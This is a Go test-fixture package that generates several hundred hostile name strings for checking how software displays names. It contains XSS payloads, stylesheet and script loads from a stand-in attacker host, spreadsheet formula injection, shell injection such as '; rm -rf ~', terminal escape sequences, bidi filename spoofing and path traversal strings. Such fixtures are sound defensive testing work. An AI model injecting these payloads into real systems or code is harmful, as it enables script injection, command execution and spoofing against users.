// Package hostile makes names that try to be more than names, for tests of everything that shows one.
package hostile

import (
	"fmt"
	"strings"
)

// Name is a text that somebody could give to a run, a shoe or a file.
type Name struct {
	Class string // what it tries to be
	Text  string
}

// Calls is what each script among them calls: a page in which it was called ran a name.
const Calls = "alert"

// Refused is a FIT file that ends after its header: an import names it in its report.
const Refused = "\x0e\x10\x00\x00\x64\x00\x00\x00.FIT\x00\x00"

// Names are all of them, in a fixed order: some 330, no two alike even when their hidden characters are dropped and
// capitals do not count. Each has a letter that is seen.
func Names() []Name {
	var out []Name
	seen := map[string]bool{}
	add := func(class string, texts ...string) {
		for _, t := range texts {
			if seen[t] {
				continue
			}
			seen[t] = true
			out = append(out, Name{class, fmt.Sprintf("%s n%03d", t, len(out))})
		}
	}
	call := Calls + "(1)"
	add("html", tags(call)...)
	add("attribute", attributes(call)...)
	add("address", addresses(call)...)
	add("script", scripts(call)...)
	add("style", `</style><script>`+call+`</script>`, `expression(`+call+`)`, `}*{display:none}`, `;background:url(javascript:`+call+`)`, `@import "//evil.example/x.css";`,
		`color:red;position:fixed;inset:0`, `\75rl(//evil.example)`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import'//evil.example';</style>`)
	add("template", `{{.}}`, `{{.Key}}`, `{{printf "%s" .}}`, `{{template "layout"}}`, `{{define "x"}}`, `{{end}}`, `${`+call+`}`, `#{7*7}`, `<%= 7*7 %>`, `{%x%}`, `%s%n%d`, `$(id)`, "`id`", `; rm -rf ~`, `| tee /tmp/x`, `&& id`)
	add("cell", `=HYPERLINK("http://evil.example","x")`, `=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", `=cmd|' /C calc'!A0`, `"=1+1`, `"","=1+1`, ` =1+1`, `'=1+1`, `＝1+1`)
	add("line", "a\r\nSet-Cookie: x=1", "a\nERROR: all is lost", "a\r\n\r\n<html>", "a\rb", "a\u2028b", "a\u2029b", "a\u0085b", "a\vb", "a\fb", "a\nEND:VEVENT\nBEGIN:VALARM", "a\r\nATTACH:http://evil.example",
		`a\nEND:VCALENDAR`, "a;b,c:d", `a\;b\,c`, "a\x00b", "a\n"+strings.Repeat("b\n", 50))
	for r := rune(1); r < 0x20; r++ {
		add("control", fmt.Sprintf("c%c0", r))
	}
	for r := rune(0x7f); r <= 0x9f; r++ {
		add("control", fmt.Sprintf("c%c1", r))
	}
	add("terminal", "\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07", "\x9b2J", "\x1b(0", "\x1bc", "a\bb\bc", "\x1b[6n", "\x1bP1$r\x1b\\")
	for _, r := range []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069} {
		add("bidi", fmt.Sprintf("evil%cgpj.exe", r), fmt.Sprintf("%cturned", r), fmt.Sprintf("left open%c", r))
	}
	add("bidi", "שלום עולם", "مرحبا 5 كم", "\u202eשלום\u202c run")
	add("hidden", "a\u200bb", "a\u2060b", "\ufeffa", "a\u00adb", "a\u180eb", "a\U000e0041\U000e0042b", "a\ufff9b\ufffac\ufffbd", "a\u3164b", "a\u115fb", "a\ufe0fb", "a\u034fb", "a\u2800b", "a\u00a0b", "a\u3000b", "\u200da")
	add("long", strings.Repeat("a", 300), strings.Repeat("long words ", 40), strings.Repeat("ß", 200), strings.Repeat("👟", 100), strings.Repeat("W", 120), strings.Repeat("-", 250), strings.Repeat("../", 80),
		strings.Repeat("a\u00a0", 100), "https://example.org/"+strings.Repeat("path/", 40), strings.Repeat("字", 150))
	add("combining", "Z"+strings.Repeat("\u0335\u0321\u0301", 40)+"algo", "e\u0301\u0301", "a"+strings.Repeat("\u20dd", 30), "o\u0489", strings.Repeat("x\u0336", 60), "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "é", "e\u0301", "각", "각", "ﷺ", "İi̇", "ﬁ", "\ufdfd")
	add("broken", "a\xffb", "a\xc0\xafb", "a\xed\xa0\x80b", "a\xf8\x88b", "\xe2\x28a", "a\xc3", "a\ufffdb", "a\U0010ffffb", "a\ue000b")
	add("path", "../../../etc/passwd", `..\..\windows\win.ini`, "/etc/passwd", "C:\\con", "nul", "~root", "-rf", "--help", "a/./b//c", "%2e%2e%2f", "file:///etc/passwd", ".ssh/authorized_keys")
	return out
}

func tags(call string) (out []string) {
	for _, t := range []string{"img src=x onerror=%s", "svg/onload=%s", "svg onload=%s", "body onload=%s", "iframe srcdoc='<script>parent.%s</script>'", "iframe src=javascript:%s", "object data=javascript:%s",
		"embed src=javascript:%s", "video src=x onerror=%s", "audio src=x onerror=%s", "details open ontoggle=%s", "input autofocus onfocus=%s", "select autofocus onfocus=%s", "textarea autofocus onfocus=%s",
		"marquee onstart=%s", "a href=javascript:%s", "form action=javascript:%s", "button formaction=javascript:%s", "isindex action=javascript:%s", "math href=javascript:%s", "meta http-equiv=refresh content='0;url=javascript:%s'",
		"base href='javascript:%s//'", "link rel=import href='data:text/html,<script>%s</script>'", "x onclick=%s style=position:fixed;inset:0", "img src=//evil.example/%s", "bdi onmouseover=%s", "p hidden onbeforematch=%s", "dialog open oncancel=%s"} {
		t = fmt.Sprintf(t, call)
		out = append(out, "<"+t+">", "\"><"+t+">")
	}
	for _, s := range []string{"<script>%s</script>", "<ScRiPt>%s</sCrIpT>", "<script >%s</script >", "<script/x>%s</script>", "<script src=//evil.example/x.js></script><i id=%s>", "<svg><script>%s</script></svg>", "<<script>%s//<</script>",
		"<scr<script>ipt>%s</script>", "</title><script>%s</script>", "</textarea><script>%s</script>", "</select><script>%s</script>", "</script><script>%s</script>", "<!--><script>%s</script>-->", "<![CDATA[<script>%s</script>]]>", "<noscript><p title='</noscript><script>%s</script>'>",
		"<template><script>%s</script></template>", "&lt;script&gt;%s&lt;/script&gt;", "&#60;script>%s</script>", "＜script＞%s＜/script＞", "+ADw-script+AD4-%s", "<b>%s</b>", "</main></body></html>%s", "<!-- %s", "<? %s ?>", "<svg><animate onbegin=%s attributeName=x>"} {
		out = append(out, fmt.Sprintf(s, call))
	}
	return out
}

func attributes(call string) (out []string) {
	for _, quote := range []string{`"`, `'`, "`", " ", "/", "&quot;", "&#39;", `\"`, `\'`} {
		for _, rest := range []string{"onmouseover=%s x=", "autofocus onfocus=%s x=", "style=x:expression(%s) x=", "><i onclick=%s>"} {
			out = append(out, "a"+quote+" "+fmt.Sprintf(rest, call)+quote)
		}
	}
	return out
}

func addresses(call string) (out []string) {
	for _, a := range []string{"javascript:%s", "JaVaScRiPt:%s", " javascript:%s", "java\tscript:%s", "java\nscript:%s", "\x01javascript:%s", "javascript&colon;%s", "javascript://%%0a%s", "data:text/html,<script>%s</script>",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==%s", "vbscript:%s", "//evil.example/%s", `\\evil.example\%s`, "https://evil.example/%s", "http:evil.example/%s", "blob:%s", "view-source:%s", "jar:%s!/", "feed:javascript:%s", "?x=%s", "#%s"} {
		out = append(out, fmt.Sprintf(a, call))
	}
	return out
}

func scripts(call string) (out []string) {
	for _, s := range []string{"'-%s-'", `"-%s-"`, "';%s//", `";%s//`, `\';%s//`, `\";%s//`, "`-%s-`", "${%s}", "</script><img src=x onerror=%s>", "*/%s/*", "\u2028%s", "-->\n%s", "0;%s", "]};%s//", "}%s{", `\u003cscript\u003e%s`, `\x3cscript\x3e%s`,
		"__proto__ %s", "constructor %s", "toString %s", "[object Object] %s"} {
		out = append(out, fmt.Sprintf(s, call))
	}
	return out
}
